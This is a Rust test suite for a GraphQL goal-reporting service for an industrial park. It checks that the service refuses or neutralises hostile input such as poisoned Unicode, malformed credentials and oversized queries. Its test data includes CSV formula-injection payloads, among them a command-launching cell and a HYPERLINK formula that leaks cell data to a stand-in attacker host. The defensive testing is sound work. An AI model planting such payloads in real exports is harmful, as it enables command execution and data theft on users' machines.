//! What an attacker or a careless client sends: over-long and poisoned
//! text, absurd numbers, many dates in one request, formula cells, probing
//! IDs, malformed credentials, retried submissions. Each is refused with a
//! stable code and changes nothing, or is made harmless.
mod common;

use common::{ADMIN_TOKEN, TestApp};
use poem::test::{TestForm, TestFormField};
use sea_orm::{ActiveModelTrait, ConnectionTrait, EntityTrait, PaginatorTrait, Set};
use serde_json::{Value, json};

const REPORT: &str =
    "mutation($i: SubmitReportInput!) { submitReport(input: $i) { id value note } }";

/// A park, one bureau under it, a plan for 2025 with one CUMULATIVE goal
/// (签约项目, 20 个) shared whole with the bureau.
struct Park {
    park: String,
    bureau: String,
    plan: String,
    goal: String,
    share: String,
}

async fn park(app: &TestApp) -> Park {
    let park = app.create_unit("洞庭产业开发区管委会", None).await;
    let bureau = app.create_unit("招商合作局", Some(&park)).await;
    let plan = app
        .create_plan("洞庭产业开发区2025年度目标任务", 2025, &park)
        .await;
    let goal = app
        .create_goal(
            json!({ "planId": plan, "title": "签约项目", "kind": "CUMULATIVE",
            "measureUnit": "个", "targetValue": 20, "weight": 15 }),
        )
        .await;
    let share = app.assign(&goal, &bureau, Some(20.0)).await;
    Park {
        park,
        bureau,
        plan,
        goal,
        share,
    }
}

async fn report_count(app: &TestApp) -> u64 {
    entity::report::Entity::find().count(&app.db).await.unwrap()
}

fn first_code(body: &Value) -> &str {
    body["errors"][0]["extensions"]["code"]
        .as_str()
        .unwrap_or_else(|| panic!("expected an error with a code: {body:#}"))
}

fn first_message(body: &Value) -> &str {
    body["errors"][0]["message"].as_str().unwrap_or_default()
}

async fn download(app: &TestApp, path: &str) -> (u16, Vec<u8>) {
    let resp = app
        .client
        .get(path)
        .header("authorization", format!("Bearer {ADMIN_TOKEN}"))
        .send()
        .await;
    let status = resp.0.status().as_u16();
    (status, resp.0.into_body().into_vec().await.unwrap())
}

/// Finding 2: a note longer than Excel's cell limit broke every .xlsx
/// export of the plan, and text had no limits at all.
#[tokio::test]
async fn over_long_text_is_refused_naming_its_field() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    let long_note = "进".repeat(32_768);
    let body = app
        .gql(
            REPORT,
            json!({ "i": { "assignmentId": p.share, "asOf": "2025-10-31", "value": 3, "note": long_note } }),
        )
        .await;
    assert_eq!(first_code(&body), "TOO_LONG", "{body:#}");
    assert!(first_message(&body).contains("note"), "{body:#}");
    assert_eq!(
        report_count(&app).await,
        0,
        "a refused report is not stored"
    );

    let body = app
        .gql(
            REPORT,
            json!({ "i": { "assignmentId": p.share, "asOf": "2025-10-31", "value": 3,
                "problems": "难".repeat(5_001) } }),
        )
        .await;
    assert_eq!(first_code(&body), "TOO_LONG");
    assert!(first_message(&body).contains("problems"), "{body:#}");

    // At the limit it is taken, whole.
    let d = app
        .data(
            REPORT,
            json!({ "i": { "assignmentId": p.share, "asOf": "2025-10-31", "value": 3,
                "note": "进".repeat(5_000) } }),
        )
        .await;
    assert_eq!(
        d["submitReport"]["note"].as_str().unwrap().chars().count(),
        5_000
    );

    let body = app
        .gql(
            "mutation($i: CreateUnitInput!) { createUnit(input: $i) { id } }",
            json!({ "i": { "name": "局".repeat(101), "parentId": p.park } }),
        )
        .await;
    assert_eq!(first_code(&body), "TOO_LONG");
    assert!(first_message(&body).contains("name"), "{body:#}");

    let body = app
        .gql(
            "mutation($i: CreateGoalInput!) { createGoal(input: $i) { id } }",
            json!({ "i": { "planId": p.plan, "title": "招".repeat(301), "kind": "MILESTONE" } }),
        )
        .await;
    assert_eq!(first_code(&body), "TOO_LONG");
    assert!(first_message(&body).contains("title"), "{body:#}");

    let body = app
        .gql(
            "mutation($id: ID!, $r: String!) { returnReport(input: { reportId: $id, reason: $r }) { id } }",
            json!({ "id": d["submitReport"]["id"], "r": "退".repeat(1_001) }),
        )
        .await;
    assert_eq!(first_code(&body), "TOO_LONG");
    assert!(first_message(&body).contains("reason"), "{body:#}");
}

/// Finding 2: rows stored before the limits (or by hand) may be longer
/// than a cell holds; the exports cut them with a marker instead of failing.
#[tokio::test]
async fn exports_never_fail_on_stored_text() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    let id = app.report(&p.share, "2025-10-31", 5.0).await;
    let mut row: entity::report::ActiveModel =
        entity::report::Entity::find_by_id(id.parse::<i64>().unwrap())
            .one(&app.db)
            .await
            .unwrap()
            .unwrap()
            .into();
    row.note = Set(Some("进".repeat(40_000)));
    row.update(&app.db).await.unwrap();
    app.db
        .execute_unprepared("UPDATE plan SET data_version = data_version + 1")
        .await
        .unwrap();

    let (status, body) = download(
        &app,
        &format!("/export/plans/{}?asOf=2025-10-31&format=xlsx", p.plan),
    )
    .await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    use calamine::{DataType, Reader, Xlsx};
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(body)).unwrap();
    let sheet = book.worksheet_range("完成情况").unwrap();
    let note = sheet
        .rows()
        .flatten()
        .filter_map(|c| c.get_string())
        .find(|s| s.starts_with("进进进"))
        .expect("the note is in the sheet")
        .to_string();
    assert!(note.chars().count() <= 32_767, "{}", note.chars().count());
    assert!(note.ends_with("（已截断）"), "the cut is marked");

    let (status, body) = download(
        &app,
        &format!("/export/plans/{}?asOf=2025-10-31&format=csv", p.plan),
    )
    .await;
    assert_eq!(status, 200);
    assert!(String::from_utf8(body).unwrap().contains("（已截断）"));
}

/// Finding 9: text is cleaned at the boundary: NFC, trimmed of every kind
/// of blank (zero-width and full-width included), control and bidi
/// characters refused, duplicates judged on the cleaned, normalised form.
#[tokio::test]
async fn text_is_cleaned_and_poisoned_text_refused() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    let create_unit = "mutation($i: CreateUnitInput!) { createUnit(input: $i) { id name } }";
    let unit = |name: &str| json!({ "i": { "name": name, "parentId": p.park } });

    // A title of a single zero-width space is blank.
    let body = app
        .gql(
            "mutation($i: CreateGoalInput!) { createGoal(input: $i) { id } }",
            json!({ "i": { "planId": p.plan, "title": "\u{200B}", "kind": "MILESTONE" } }),
        )
        .await;
    assert_eq!(first_code(&body), "INVALID_VALUE", "{body:#}");

    for poisoned in [
        "经济发展局\u{202E}局展发",  // right-to-left override
        "财政局\u{2066}x\u{2069}",   // bidi isolates
        "财政局\u{7}",               // BEL
        "\u{1b}[31m财政局\u{1b}[0m", // ANSI colour escape
        "财政\u{0}局",               // NUL
    ] {
        let body = app.gql(create_unit, unit(poisoned)).await;
        assert_eq!(first_code(&body), "INVALID_TEXT", "{poisoned:?}: {body:#}");
        assert!(first_message(&body).contains("name"), "{body:#}");
    }

    // Blanks of every kind around a name go; NFC composes.
    let d = app
        .data(
            create_unit,
            unit("\u{3000}\u{FEFF} 规划建设局\u{200B}\u{00A0}"),
        )
        .await;
    assert_eq!(d["createUnit"]["name"], json!("规划建设局"));
    let d = app.data(create_unit, unit("Cafe\u{301} 服务中心")).await;
    assert_eq!(d["createUnit"]["name"], json!("Café 服务中心"));

    // Look-alikes of an existing sibling are duplicates.
    for look_alike in [
        "招商合作局\u{200B}",
        "招商\u{AD}合作局",
        "招商合\u{FE0F}作局",
        "招商\u{2800}合作局",
    ] {
        let body = app.gql(create_unit, unit(look_alike)).await;
        assert_eq!(first_code(&body), "DUPLICATE", "{look_alike:?}: {body:#}");
    }
    app.data(create_unit, unit("第1招商分局")).await;
    let body = app.gql(create_unit, unit("第１招商分局")).await;
    assert_eq!(
        first_code(&body),
        "DUPLICATE",
        "full-width digits: {body:#}"
    );

    // A note keeps its line breaks and tabs, not its escapes.
    let d = app
        .data(
            REPORT,
            json!({ "i": { "assignmentId": p.share, "asOf": "2025-10-31", "value": 3,
                "note": "  一、新签约吉泰食品项目\r\n二、\t在谈项目3个\u{3000}" } }),
        )
        .await;
    assert_eq!(
        d["submitReport"]["note"],
        json!("一、新签约吉泰食品项目\n二、\t在谈项目3个")
    );
    let body = app
        .gql(
            REPORT,
            json!({ "i": { "assignmentId": p.share, "asOf": "2025-10-31", "value": 3,
                "note": "进展\u{1b}[2J" } }),
        )
        .await;
    assert_eq!(first_code(&body), "INVALID_TEXT");
    assert!(first_message(&body).contains("note"), "{body:#}");
    assert_eq!(report_count(&app).await, 1);
}

/// Finding 4: text that a spreadsheet would run as a formula is
/// neutralised in the CSV export; numbers stay numbers.
#[tokio::test]
async fn csv_cells_that_look_like_formulas_are_neutralised() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    app.data(
        "mutation($i: UpdateGoalInput!) { updateGoal(input: $i) { id } }",
        json!({ "i": { "id": p.goal, "title": "+cmd|' /C calc'!A0", "category": "-2+3" } }),
    )
    .await;
    app.data(
        REPORT,
        json!({ "i": { "assignmentId": p.share, "asOf": "2025-10-31", "value": 3,
            "note": "=HYPERLINK(\"http://evil.example/?\"&B2,\"详情\")",
            "problems": "@SUM(A1:A9)" } }),
    )
    .await;
    let (status, body) = download(
        &app,
        &format!("/export/plans/{}?asOf=2025-10-31&format=csv", p.plan),
    )
    .await;
    assert_eq!(status, 200);
    let text = String::from_utf8(body[3..].to_vec()).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(text.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    let cells: Vec<&str> = row.iter().collect();
    for dangerous in ["=", "+", "-", "@", "\t", "\r"] {
        assert!(
            !cells
                .iter()
                .any(|c| c.starts_with(dangerous) && c.parse::<f64>().is_err()),
            "a text cell starts with {dangerous:?}: {cells:?}"
        );
    }
    assert!(cells.contains(&"'+cmd|' /C calc'!A0"), "{cells:?}");
    assert!(
        cells.contains(&"'=HYPERLINK(\"http://evil.example/?\"&B2,\"详情\")"),
        "{cells:?}"
    );
    assert!(cells.contains(&"'@SUM(A1:A9)"), "{cells:?}");
    assert!(cells.contains(&"'-2+3"), "{cells:?}");
    // The gap of a goal behind time progress is a negative number, and
    // stays one.
    assert!(
        cells
            .iter()
            .any(|c| c.starts_with('-') && c.parse::<f64>().is_ok()),
        "{cells:?}"
    );
}

/// Finding 5: an absurd value made the completion infinite, returned as
/// null in a Float! field, with a green light.
#[tokio::test]
async fn implausible_values_are_refused_and_figures_stay_finite() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    for value in [1.7e308, 1e13, 20_001.0] {
        let body = app
            .gql(
                REPORT,
                json!({ "i": { "assignmentId": p.share, "asOf": "2025-10-31", "value": value } }),
            )
            .await;
        assert_eq!(first_code(&body), "IMPLAUSIBLE_VALUE", "{value}: {body:#}");
    }
    assert_eq!(report_count(&app).await, 0);
    for target in [1e13, -1e13, 1e-9] {
        let body = app
            .gql(
                "mutation($i: CreateGoalInput!) { createGoal(input: $i) { id } }",
                json!({ "i": { "planId": p.plan, "title": "规上工业增加值增速", "kind": "RATE",
                    "measureUnit": "%", "targetValue": target } }),
            )
            .await;
        assert_eq!(first_code(&body), "IMPLAUSIBLE_VALUE", "{target}: {body:#}");
    }
    // A thousand times the share's target is the most a report may claim.
    app.report(&p.share, "2025-10-31", 20_000.0).await;
    let d = app
        .data(
            r#"query($id: ID!) { goal(id: $id) { progress(asOf: "2025-10-31") { completionPercent expectedPercent gap light } } }"#,
            json!({ "id": p.goal }),
        )
        .await;
    let progress = &d["goal"]["progress"];
    for figure in ["completionPercent", "expectedPercent", "gap"] {
        assert!(
            progress[figure].as_f64().is_some_and(f64::is_finite),
            "{figure}: {progress}"
        );
    }
    assert_eq!(progress["completionPercent"].as_f64(), Some(100_000.0));
}

/// Finding 3: a request may ask about at most 64 distinct dates.
#[tokio::test]
async fn a_request_asking_too_many_dates_is_refused() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    let days = |n: usize| -> String {
        (0..n)
            .map(|i| {
                let date = chrono::NaiveDate::from_ymd_opt(2025, 1, 1).unwrap()
                    + chrono::Days::new(i as u64);
                format!("d{i}: vetoed(asOf: \"{date}\") ")
            })
            .collect()
    };
    let q = |n| format!("query($id: ID!) {{ plan(id: $id) {{ {} }} }}", days(n));
    let d = app.data(&q(64), json!({ "id": p.plan })).await;
    assert_eq!(d["plan"]["d63"], json!(false));
    let body = app.gql(&q(65), json!({ "id": p.plan })).await;
    assert_eq!(first_code(&body), "TOO_MANY_DATES", "{body:#}");
}

/// Finding 11: reports about days that have not come yet, and plans for
/// years no park plans, are refused.
#[tokio::test]
async fn future_reports_and_absurd_years_are_refused() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    // The test clock stands at 10:00 on 1 November 2025 in Shanghai.
    let body = app
        .gql(
            REPORT,
            json!({ "i": { "assignmentId": p.share, "asOf": "2025-11-02", "value": 3 } }),
        )
        .await;
    assert_eq!(first_code(&body), "REPORT_IN_FUTURE", "{body:#}");
    assert_eq!(report_count(&app).await, 0);
    app.report(&p.share, "2025-11-01", 3.0).await;
    // 23:30 UTC on 1 November is already 2 November in Shanghai.
    app.set_now("2025-11-01T23:30:00Z");
    app.report(&p.share, "2025-11-02", 4.0).await;

    for year in [0, -1, 1999, 2101] {
        let body = app
            .gql(
                "mutation($i: CreatePlanInput!) { createPlan(input: $i) { id } }",
                json!({ "i": { "name": "某年度目标任务", "year": year, "ownerUnitId": p.park } }),
            )
            .await;
        assert_eq!(first_code(&body), "INVALID_PLAN_PERIOD", "{year}: {body:#}");
    }
}

/// Finding 12: a clerk on a flaky connection presses 提交 twice; with an
/// idempotency key the second press files nothing new.
#[tokio::test]
async fn a_retried_submission_files_one_report() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    let clerk = app
        .issue_token("招商合作局 填报员", "REPORTER", Some(&p.bureau))
        .await;
    let input = |key: &str, value: f64| {
        json!({ "i": { "assignmentId": p.share, "asOf": "2025-10-31", "value": value,
            "note": "新签约吉泰未来食品项目", "idempotencyKey": key } })
    };
    let (_, first) = app.gql_as(Some(&clerk), REPORT, input("k-1", 9.0)).await;
    let (_, again) = app.gql_as(Some(&clerk), REPORT, input("k-1", 9.0)).await;
    assert!(first.get("errors").is_none(), "{first:#}");
    assert_eq!(again["data"], first["data"], "the first report comes back");
    assert_eq!(report_count(&app).await, 1);

    // Racing presses: both answered with one report.
    let (a, b) = tokio::join!(
        app.gql_as(Some(&clerk), REPORT, input("k-2", 10.0)),
        app.gql_as(Some(&clerk), REPORT, input("k-2", 10.0)),
    );
    assert!(a.1.get("errors").is_none(), "{a:#?}");
    assert_eq!(a.1["data"], b.1["data"]);
    assert_eq!(report_count(&app).await, 2);

    // The same key from another token is another submission; so is a
    // submission without a key.
    app.gql_as(Some(ADMIN_TOKEN), REPORT, input("k-1", 9.0))
        .await;
    assert_eq!(report_count(&app).await, 3);
    let plain = json!({ "i": { "assignmentId": p.share, "asOf": "2025-10-31", "value": 9 } });
    app.gql_as(Some(&clerk), REPORT, plain.clone()).await;
    app.gql_as(Some(&clerk), REPORT, plain).await;
    assert_eq!(report_count(&app).await, 5);

    // A key used for another figure is a mistake, not a retry.
    let (_, other) = app.gql_as(Some(&clerk), REPORT, input("k-1", 11.0)).await;
    assert_eq!(first_code(&other), "IDEMPOTENCY_KEY_REUSED", "{other:#}");
    assert_eq!(report_count(&app).await, 5);

    // A day later the key is forgotten.
    app.set_now("2025-11-02T02:00:01Z");
    let (_, later) = app.gql_as(Some(&clerk), REPORT, input("k-1", 9.0)).await;
    assert_ne!(later["data"], first["data"], "{later:#}");
    assert_eq!(report_count(&app).await, 6);

    let (_, body) = app
        .gql_as(Some(&clerk), REPORT, input(&"k".repeat(101), 9.0))
        .await;
    assert_eq!(first_code(&body), "TOO_LONG");

    // The year is settled between the press and the retry: the retry
    // still learns that its report was filed.
    let (_, filed) = app.gql_as(Some(&clerk), REPORT, input("k-4", 12.0)).await;
    app.data(
        "mutation($id: ID!) { closePlan(id: $id) { state } }",
        json!({ "id": p.plan }),
    )
    .await;
    let (_, retried) = app.gql_as(Some(&clerk), REPORT, input("k-4", 12.0)).await;
    assert!(retried.get("errors").is_none(), "{retried:#}");
    assert_eq!(retried["data"], filed["data"]);
    let (_, new) = app.gql_as(Some(&clerk), REPORT, input("k-5", 12.0)).await;
    assert_eq!(first_code(&new), "PLAN_CLOSED");
}

/// Finding 6: production mode gives no hints about the schema.
#[tokio::test]
async fn production_mode_suggests_nothing() {
    let app = TestApp::spawn_with(mubiao::config::LimitsConfig {
        production: true,
        ..Default::default()
    })
    .await;
    for query in [
        "{ plas { id } }",
        "mutation { createUnt(input: {}) { id } }",
    ] {
        let body = app.gql(query, json!({})).await;
        assert_eq!(first_code(&body), "BAD_REQUEST");
        assert!(
            !body.to_string().contains("Did you mean"),
            "{query}: {body}"
        );
    }
    // Development keeps the help.
    let dev = TestApp::spawn().await;
    let body = dev.gql("{ plas { id } }", json!({})).await;
    assert!(body.to_string().contains("Did you mean"), "{body}");
}

/// Finding 8: the scheme is parsed strictly; anything malformed is 401.
#[tokio::test]
async fn malformed_authorization_headers_are_refused() {
    let app = TestApp::spawn().await;
    let query = json!({ "query": "{ me { name } }" });
    for header in [
        format!("Bearer{ADMIN_TOKEN}"),
        format!("Bearer  {ADMIN_TOKEN}"),
        format!("Basic {ADMIN_TOKEN}"),
        format!("Bearer {ADMIN_TOKEN} extra"),
        "Bearer".to_string(),
        "Bearer ".to_string(),
        ADMIN_TOKEN.to_string(),
    ] {
        let resp = app
            .client
            .post("/graphql")
            .header("authorization", header.as_str())
            .body_json(&query)
            .send()
            .await;
        assert_eq!(resp.0.status().as_u16(), 401, "{header:?}");
    }
    // A header that is not ASCII at all.
    let resp = app
        .client
        .post("/graphql")
        .header(
            "authorization",
            poem::http::HeaderValue::from_bytes("Bearer 令牌".as_bytes()).unwrap(),
        )
        .body_json(&query)
        .send()
        .await;
    assert_eq!(resp.0.status().as_u16(), 401);
    let resp = app
        .client
        .get("/export/plans/1")
        .header("authorization", format!("Bearer{ADMIN_TOKEN}"))
        .send()
        .await;
    assert_eq!(resp.0.status().as_u16(), 401);
    // Two credentials at once: which one a proxy reads is anyone's guess.
    let viewer = app.issue_token("大屏", "VIEWER", None).await;
    let resp = app
        .client
        .post("/graphql")
        .header("authorization", format!("Bearer {viewer}"))
        .header("authorization", format!("Bearer {ADMIN_TOKEN}"))
        .body_json(&query)
        .send()
        .await;
    assert_eq!(resp.0.status().as_u16(), 401);
    // The well-formed header works, the scheme in any case.
    for scheme in ["Bearer", "bearer"] {
        let resp = app
            .client
            .post("/graphql")
            .header("authorization", format!("{scheme} {ADMIN_TOKEN}"))
            .body_json(&query)
            .send()
            .await;
        assert_eq!(resp.0.status().as_u16(), 200);
    }
}

/// Finding 8: a reporter learns nothing about plans it takes no part in,
/// not even whether they exist.
#[tokio::test]
async fn unreadable_objects_look_like_missing_ones() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    let other_unit = app.create_unit("规划建设局", Some(&p.park)).await;
    let other_plan = app
        .create_plan("另一园区2025年度目标任务", 2025, &p.park)
        .await;
    let other_goal = app
        .create_goal(
            json!({ "planId": other_plan, "title": "新建标准厂房", "kind": "CUMULATIVE",
            "measureUnit": "万平方米", "targetValue": 5 }),
        )
        .await;
    let other_share = app.assign(&other_goal, &other_unit, Some(5.0)).await;
    let clerk = app
        .issue_token("招商合作局 填报员", "REPORTER", Some(&p.bureau))
        .await;

    let ask = |query: &'static str, id: String| {
        let clerk = clerk.clone();
        let app = &app;
        async move { app.gql_as(Some(&clerk), query, json!({ "id": id })).await.1 }
    };
    for (query, hidden, missing) in [
        (
            "query($id: ID!) { plan(id: $id) { name } }",
            &other_plan,
            "999999",
        ),
        (
            "query($id: ID!) { goal(id: $id) { title } }",
            &other_goal,
            "999998",
        ),
        (
            "query($id: ID!) { assignment(id: $id) { id } }",
            &other_share,
            "999997",
        ),
    ] {
        let seen = ask(query, hidden.clone()).await;
        let absent = ask(query, missing.to_string()).await;
        assert_eq!(seen, absent, "{query}");
        assert!(seen.get("errors").is_none(), "{seen:#}");
    }
    // Writing to a share of such a plan: the same NOT_FOUND as no share.
    let (_, hidden) = app
        .gql_as(
            Some(&clerk),
            REPORT,
            json!({ "i": { "assignmentId": other_share, "asOf": "2025-10-31", "value": 1 } }),
        )
        .await;
    let (_, missing) = app
        .gql_as(
            Some(&clerk),
            REPORT,
            json!({ "i": { "assignmentId": "999996", "asOf": "2025-10-31", "value": 1 } }),
        )
        .await;
    assert_eq!(first_code(&hidden), "NOT_FOUND", "{hidden:#}");
    assert_eq!(first_code(&missing), "NOT_FOUND");
    // The export: 404 either way.
    for plan in [other_plan.as_str(), "999999"] {
        let resp = app
            .client
            .get(format!("/export/plans/{plan}"))
            .header("authorization", format!("Bearer {clerk}"))
            .send()
            .await;
        assert_eq!(resp.0.status().as_u16(), 404, "plan {plan}");
    }
    // Its own plan it reads.
    let mine = ask("query($id: ID!) { plan(id: $id) { name } }", p.plan.clone()).await;
    assert_eq!(
        mine["data"]["plan"]["name"],
        json!("洞庭产业开发区2025年度目标任务")
    );
}

/// Finding 8: `importPlan` takes exactly one file part.
#[tokio::test]
async fn an_upload_with_extra_file_parts_is_refused() {
    let app = TestApp::spawn().await;
    let operations = json!({
        "query": "mutation($i: ImportPlanInput!) { importPlan(input: $i) { goalCount } }",
        "variables": { "i": { "file": null, "year": 2026, "dryRun": true } }
    });
    let mut form = TestForm::new()
        .text("operations", operations.to_string())
        .text("map", json!({ "0": ["variables.i.file"] }).to_string());
    for part in 0..5 {
        form = form.field(
            TestFormField::bytes(b"a,b\n1,2\n".to_vec())
                .name(part.to_string())
                .filename(format!("{part}.csv")),
        );
    }
    let resp = app
        .client
        .post("/graphql")
        .header("authorization", format!("Bearer {ADMIN_TOKEN}"))
        .multipart(form)
        .send()
        .await;
    assert_eq!(resp.0.status().as_u16(), 400);
    let body = resp.json().await.value().deserialize::<Value>();
    assert_eq!(first_code(&body), "BAD_REQUEST", "{body:#}");
}

/// Finding 10: every response carries a request ID, whatever its route
/// and status; an export's internal error quotes it.
#[tokio::test]
async fn every_response_carries_a_request_id() {
    let app = TestApp::spawn().await;
    let p = park(&app).await;
    for (method, path) in [
        ("GET", "/healthz"),
        ("GET", "/no-such-page"),
        ("PUT", "/graphql"),
        ("DELETE", "/export/plans/1"),
    ] {
        let req = match method {
            "GET" => app.client.get(path),
            "PUT" => app.client.put(path),
            _ => app.client.delete(path),
        };
        let resp = req.send().await;
        let id = resp.0.headers().get("x-request-id");
        assert!(
            id.is_some_and(|v| v.len() >= 8),
            "{method} {path} → {}",
            resp.0.status()
        );
    }
    let resp = app
        .client
        .get("/healthz")
        .header("x-request-id", "req-health-1")
        .send()
        .await;
    resp.assert_header("x-request-id", "req-health-1");

    app.break_reports().await;
    let resp = app
        .client
        .get(format!("/export/plans/{}?format=csv", p.plan))
        .header("authorization", format!("Bearer {ADMIN_TOKEN}"))
        .header("x-request-id", "req-export-9")
        .header("accept-language", "en")
        .send()
        .await;
    assert_eq!(resp.0.status().as_u16(), 500);
    resp.assert_header("x-request-id", "req-export-9");
    let body = resp.json().await.value().deserialize::<Value>();
    assert_eq!(
        body["errors"][0]["message"],
        json!("internal error (request req-export-9)")
    );
    assert!(
        !body.to_string().to_lowercase().contains("report"),
        "{body}"
    );
}

/// Found by an outside probe: a viewer's aliases of every goal's trend
/// (each a history of the whole plan, evaluated at every month end), or of
/// every report of every plan, cost memory without bound although each
/// query was small. A request now holds a bounded number of rows and
/// answers a bounded number of values, the operations of a batch together.
#[tokio::test]
async fn what_a_request_may_hold_and_answer_is_bounded() {
    let app = TestApp::spawn_with(mubiao::config::LimitsConfig {
        max_request_rows: 200,
        max_response_values: 300,
        ..Default::default()
    })
    .await;
    let p = park(&app).await;
    for month in 1..=10 {
        app.report(&p.share, &format!("2025-{month:02}-28"), month as f64)
            .await;
    }
    let trend = |n: usize| {
        let aliases: String = (0..n)
            .map(|i| {
                format!(
                    "g{i}: goal(id: $id) {{ trend(upTo: \"2025-10-31\") {{ completionPercent }} }} "
                )
            })
            .collect();
        format!("query($id: ID!) {{ {aliases} }}")
    };
    // One goal's trend is cheap; the same trend asked many times over is
    // the same snapshot, held once.
    let d = app.data(&trend(1), json!({ "id": p.goal })).await;
    assert_eq!(d["g0"]["trend"].as_array().unwrap().len(), 10);
    app.data(&trend(5), json!({ "id": p.goal })).await;
    // Every plan's history at once is more than this server allows.
    let other = app
        .create_plan("另一园区2025年度目标任务", 2025, &p.park)
        .await;
    for i in 0..6 {
        let g = app
            .create_goal(json!({ "planId": other, "title": format!("目标{i}"), "kind": "CUMULATIVE", "targetValue": 10 }))
            .await;
        app.assign(&g, &p.bureau, Some(10.0)).await;
    }
    let body = app
        .gql(
            r#"{ plans { trend(upTo: "2025-10-31") { completionPercent } } }"#,
            json!({}),
        )
        .await;
    assert_eq!(first_code(&body), "QUERY_TOO_EXPENSIVE", "{body:#}");

    // Aliases of every report: the answer is refused whole, not sent cut.
    let reports: String = (0..20)
        .map(|i| format!("r{i}: assignment(id: $id) {{ reports {{ id asOf value note }} }} "))
        .collect();
    let body = app
        .gql(
            &format!("query($id: ID!) {{ {reports} }}"),
            json!({ "id": p.share }),
        )
        .await;
    assert_eq!(first_code(&body), "RESPONSE_TOO_LARGE", "{body:#}");
    assert_eq!(body["data"], Value::Null);
    assert_eq!(body["errors"].as_array().unwrap().len(), 1);

    // A batch shares one budget: 40 dates and 40 more are 80.
    let dates = |from: u64| -> String {
        (from..from + 40)
            .map(|i| {
                let date =
                    chrono::NaiveDate::from_ymd_opt(2025, 1, 1).unwrap() + chrono::Days::new(i);
                format!("d{i}: vetoed(asOf: \"{date}\") ")
            })
            .collect()
    };
    let batch = json!([
        { "query": format!("query($id: ID!) {{ plan(id: $id) {{ {} }} }}", dates(0)), "variables": { "id": p.plan } },
        { "query": format!("query($id: ID!) {{ plan(id: $id) {{ {} }} }}", dates(40)), "variables": { "id": p.plan } },
    ]);
    let resp = app
        .client
        .post("/graphql")
        .header("authorization", format!("Bearer {ADMIN_TOKEN}"))
        .body_json(&batch)
        .send()
        .await;
    let body = resp.json().await.value().deserialize::<Value>();
    assert!(body[0].get("errors").is_none(), "{body:#}");
    assert_eq!(first_code(&body[1]), "TOO_MANY_DATES", "{body:#}");
}
